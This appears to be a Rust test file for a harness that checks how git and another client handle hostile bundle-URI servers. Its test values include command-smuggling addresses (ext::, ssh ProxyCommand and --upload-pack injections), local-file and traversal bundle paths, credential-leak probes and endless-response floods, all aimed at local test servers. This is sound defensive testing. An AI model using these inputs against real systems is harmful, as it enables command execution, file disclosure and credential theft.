//! Servers that advertise bundles, and hostile bundle lists.

use super::Table;
use crate::attack::{Attack, Scene, command};
use crate::servers::flood;
use crate::servers::git::{Offer, line, lines};
use crate::servers::http::{begin, challenge, redirect, respond};

/// The reason why git takes files of this machine.
const TRUSTING: &str = "a server may name any file of this machine";

/// The reason why git tells every server of bundles the user's secrets.
const GENEROUS: &str = "its helper sends headers and logins to all servers";

/// The reason why some rows have no control run.
const PATIENT: &str = "it has no bound here, and would run until the server ends";

pub(super) fn table() -> Table {
    let mut table = Table::new("bundles");
    places(&mut table);
    credentials(&mut table);
    bounds(&mut table);
    contents(&mut table);
    table
}

/// A clone that accepts bundles from a server that names `uri`.
fn clone(scene: &mut Scene, uri: &str) -> Attack {
    let list = lines([
        b"bundle.version=1".as_slice(),
        b"bundle.mode=all",
        format!("bundle.x.uri={uri}").as_bytes(),
    ]);
    let offer = Offer::new(scene.ids).bundles(list);
    let server = scene.git_server(offer);
    command(["-c", "transfer.bundleURI=true", "clone", &server, "clone"])
        .leaves_no("work/clone/.git/refs/bundles")
}

/// Addresses that lead to other places than a web server.
fn places(table: &mut Table) {
    for (name, uri) in [
        ("a-url", "file://ROOT/outside/secret.bundle"),
        ("a-path", "ROOT/outside/secret.bundle"),
        ("a-long-way", "../../../../../..ROOT/outside/secret.bundle"),
        ("a-list", "file://ROOT/outside/list"),
    ] {
        table.row(format!("file-by-{name}"), move |scene| {
            bundle(scene, "outside/secret.bundle");
            scene.write(
                "outside/list",
                "[bundle]\nversion = 1\nmode = all\n[bundle \"x\"]\nuri = secret.bundle\n",
            );
            let uri = uri.replace("ROOT", &scene.root().display().to_string());
            clone(scene, &uri).succeeds().git_differs(TRUSTING)
        });
    }
    table.row("file-by-a-list-of-a-web-server", |scene| {
        bundle(scene, "outside/secret.bundle");
        let uri = format!("file://{}/outside/secret.bundle", scene.root().display());
        let evil = scene.http(move |_, out| {
            let list = format!("[bundle]\nversion=1\nmode=all\n[bundle \"x\"]\nuri = {uri}\n");
            respond(out, "200 OK", &[], list.as_bytes())
        });
        let uri = format!("http://127.0.0.1:{evil}/list");
        clone(scene, &uri).succeeds().git_differs(TRUSTING)
    });
    table.row("file-where-files-are-allowed", |scene| {
        bundle(scene, "outside/secret.bundle");
        scene.configure("[protocol \"file\"]\n\tallow = always\n");
        let uri = format!("file://{}/outside/secret.bundle", scene.root().display());
        clone(scene, &uri).succeeds().git_differs(TRUSTING)
    });
    for (name, uri) in [
        ("command", "ext::PAYLOAD"),
        ("ssh", "ssh://-oProxyCommand=PAYLOAD/x"),
        ("option", "--upload-pack=PAYLOAD"),
    ] {
        table.row(name, move |scene| {
            let payload = scene.payload("server/payload").display().to_string();
            clone(scene, &uri.replace("PAYLOAD", &payload)).succeeds()
        });
    }
    table.row("file-by-redirection", |scene| {
        bundle(scene, "outside/secret.bundle");
        let uri = format!("file://{}/outside/secret.bundle", scene.root().display());
        let evil = scene.http(move |_, out| redirect(out, &uri));
        scene.configure("[http]\n\tfollowRedirects = true\n");
        clone(scene, &format!("http://127.0.0.1:{evil}/x")).succeeds()
    });
    table.row("forbidden-protocol", |scene| {
        let evil = scene.http(|_, out| respond(out, "404 Not Found", &[], b""));
        scene.configure("[protocol \"http\"]\n\tallow = user\n");
        clone(scene, &format!("http://127.0.0.1:{evil}/x"))
            .succeeds()
            .never_contacts(evil)
            .git_differs("it treats the address as one that the user named")
    });
}

/// Servers of bundles that ask for passwords.
fn credentials(table: &mut Table) {
    table.row("password-of-the-server", |scene| {
        let secret = scene.secret(None);
        let evil = scene.http(|_, out| challenge(out));
        scene.credential("http", &format!("127.0.0.1:{}", evil - 1), &secret);
        scene.credential("http", "127.0.0.1", &secret);
        clone(scene, &format!("http://127.0.0.1:{evil}/x")).succeeds()
    });
    table.row("header-of-the-server", |scene| {
        let evil = scene.http(|_, out| respond(out, "404 Not Found", &[], b""));
        let list = lines([
            b"bundle.version=1".as_slice(),
            b"bundle.mode=all",
            format!("bundle.x.uri=http://127.0.0.1:{evil}/x").as_bytes(),
        ]);
        let offer = Offer::new(scene.ids).bundles(list);
        let server =
            scene.http(move |request, out| crate::servers::http::offer(&offer, request, out));
        let secret = scene.secret(Some(server));
        scene.configure(&format!(
            "[http]\n\textraHeader = Authorization: {secret}\n"
        ));
        let url = format!("http://127.0.0.1:{server}/x");
        command(["-c", "transfer.bundleURI=true", "clone", &url, "clone"])
            .succeeds()
            .git_differs(GENEROUS)
    });
    for (name, of) in [("git", None), ("ssh", Some("ssh"))] {
        table.row(format!("login-of-a-server-by-{name}"), move |scene| {
            let evil = logins(scene);
            let list = lines([
                b"bundle.version=1".as_slice(),
                b"bundle.mode=all",
                format!("bundle.x.uri=http://127.0.0.1:{evil}/x").as_bytes(),
            ]);
            let offer = Offer::new(scene.ids).bundles(list);
            let (url, variables) = match of {
                None => (scene.git_server(offer), None),
                Some(_) => ("ssh://host/x".to_owned(), Some(scene.ssh(&offer))),
            };
            let mut attack =
                command(["-c", "transfer.bundleURI=true", "clone", &url, "clone"]).succeeds();
            if let Some(ssh) = variables {
                attack = attack.variable("GIT_SSH_COMMAND", ssh);
            }
            attack.git_differs(GENEROUS)
        });
    }
    table.row("login-of-a-list-in-a-file", |scene| {
        let evil = logins(scene);
        let uri = format!("http://127.0.0.1:{evil}/x");
        scene.write(
            "work/list",
            format!("[bundle]\nversion=1\nmode=all\n[bundle \"x\"]\nuri = {uri}\n"),
        );
        let server = scene.git_server(Offer::new(scene.ids));
        command(["clone", "--bundle-uri=list", &server, "clone"])
            .succeeds()
            .git_differs(GENEROUS)
    });
}

/// Sets a header for all servers, and a login for all ports of this machine. Returns the port of a server that
/// asks for a login and must get neither.
fn logins(scene: &mut Scene) -> u16 {
    let evil = scene.http(|_, out| challenge(out));
    let header = scene.secret(None);
    scene.configure(&format!("[http]\n\textraHeader = X-Token: {header}\n"));
    let password = scene.secret(None);
    scene.write(
        "home/.netrc",
        format!("machine 127.0.0.1 login user password {password}\n"),
    );
    evil
}

/// Servers and lists without end.
fn bounds(table: &mut Table) {
    table.row("endless-answer", |scene| {
        let first = Offer::new(scene.ids).capability("bundle-uri").first_words();
        let server = scene.tcp(move |stream| {
            stream.write_all(&first)?;
            flood(stream, &line("bundle.x.uri=x"))
        });
        let url = format!("git://127.0.0.1:{server}/x");
        command(["-c", "transfer.bundleURI=true", "clone", &url, "clone"])
            .fails()
            .only_pronto(PATIENT)
    });
    table.row("endless-list", |scene| {
        let evil = scene.http(|_, out| {
            begin(out, "200 OK", &[])?;
            out.write_all(b"\r\n")?;
            flood(out, b"[bundle]\nversion = 1\n")
        });
        clone(scene, &format!("http://127.0.0.1:{evil}/list"))
            .succeeds()
            .only_pronto(PATIENT)
    });
    table.row("lists-of-lists", |scene| {
        let evil = scene.http(|_, out| {
            let mut list = "[bundle]\nversion = 1\nmode = all\n".to_owned();
            for number in 0..100 {
                list.push_str(&format!("[bundle \"{number}\"]\nuri = list\n"));
            }
            respond(out, "200 OK", &[], list.as_bytes())
        });
        clone(scene, &format!("http://127.0.0.1:{evil}/list"))
            .succeeds()
            .only_pronto(PATIENT)
    });
    table.row("list-with-a-long-address", |scene| {
        let long = "x".repeat(30_000);
        let evil = scene.http(|_, out| {
            let mut list = "[bundle]\nversion = 1\nmode = all\n".to_owned();
            for number in 0..30_000 {
                list.push_str(&format!("[bundle \"{number}\"]\nuri = y\n"));
            }
            respond(out, "200 OK", &[], list.as_bytes())
        });
        clone(scene, &format!("http://127.0.0.1:{evil}/{long}/list"))
            .succeeds()
            .only_pronto(PATIENT)
    });
    table.row("long-header", |scene| {
        let evil = scene.http(|_, out| {
            begin(out, "200 OK", &[])?;
            out.write_all(b"\r\n# v2 git bundle\n")?;
            let lines = format!("{} refs/heads/x\n", "1".repeat(40)).repeat(10_000);
            for _ in 0..500 {
                out.write_all(lines.as_bytes())?;
            }
            out.flush()
        });
        clone(scene, &format!("http://127.0.0.1:{evil}/x"))
            .succeeds()
            .only_pronto(PATIENT)
    });
    table.row("list-of-a-fifo", |scene| {
        scene.fifo("work/list");
        let server = scene.git_server(Offer::new(scene.ids));
        command(["clone", "--bundle-uri=list", &server, "clone"])
            .succeeds()
            .only_pronto(PATIENT)
    });
}

/// Bundles that would make a repository incomplete.
fn contents(table: &mut Table) {
    for (name, header) in [
        ("tip", format!("{} refs/heads/x\n", "1".repeat(40))),
        ("name", "ID refs/heads/../../../x\n".to_owned()),
        ("control", "ID refs/heads/\u{1b}[2J\n".to_owned()),
        ("filter", "@filter=blob:none\nID refs/heads/x\n".to_owned()),
    ] {
        table.row(format!("bad-{name}"), move |scene| {
            let header = header.replace("ID", &scene.ids.first);
            let start = match header.starts_with('@') {
                true => "# v3 git bundle\n",
                false => "# v2 git bundle\n",
            };
            let text = [start.as_bytes(), header.as_bytes(), b"\n", &scene.ids.pack].concat();
            let evil = scene.http(move |_, out| respond(out, "200 OK", &[], &text));
            let attack = clone(scene, &format!("http://127.0.0.1:{evil}/x")).succeeds();
            attack.git_differs_if(
                name == "filter",
                "it takes the bundle, and fails afterwards",
            )
        });
    }
}

/// Writes a bundle at `path`.
fn bundle(scene: &Scene, path: &str) {
    scene.repository("server/secret");
    let file = scene.path(path).display().to_string();
    scene.write(path, "");
    scene.git(
        "server/secret",
        &["commit", "-q", "--allow-empty", "-m", "secret"],
    );
    scene.git(
        "server/secret",
        &["bundle", "create", "-q", &file, "HEAD", "--all"],
    );
}
